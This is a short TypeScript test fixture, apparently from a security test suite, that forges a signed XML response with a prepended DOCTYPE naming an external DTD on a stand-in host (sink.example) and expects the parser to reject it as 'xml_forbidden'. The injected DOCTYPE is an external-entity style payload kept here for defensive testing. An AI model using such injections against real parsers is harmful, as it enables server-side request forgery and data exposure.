import type { Attack } from '../../support/attack.ts'

export const attack: Attack = {
  misdeed: 'a DOCTYPE names an external subset, for a parser that fetches it from inside our network',
  code: 'xml_forbidden',
  forge: ({ response }) => {
    const signed = response()
    return { evil: `<!DOCTYPE r SYSTEM "http://sink.example/r.dtd">${signed}`, control: signed }
  },
}
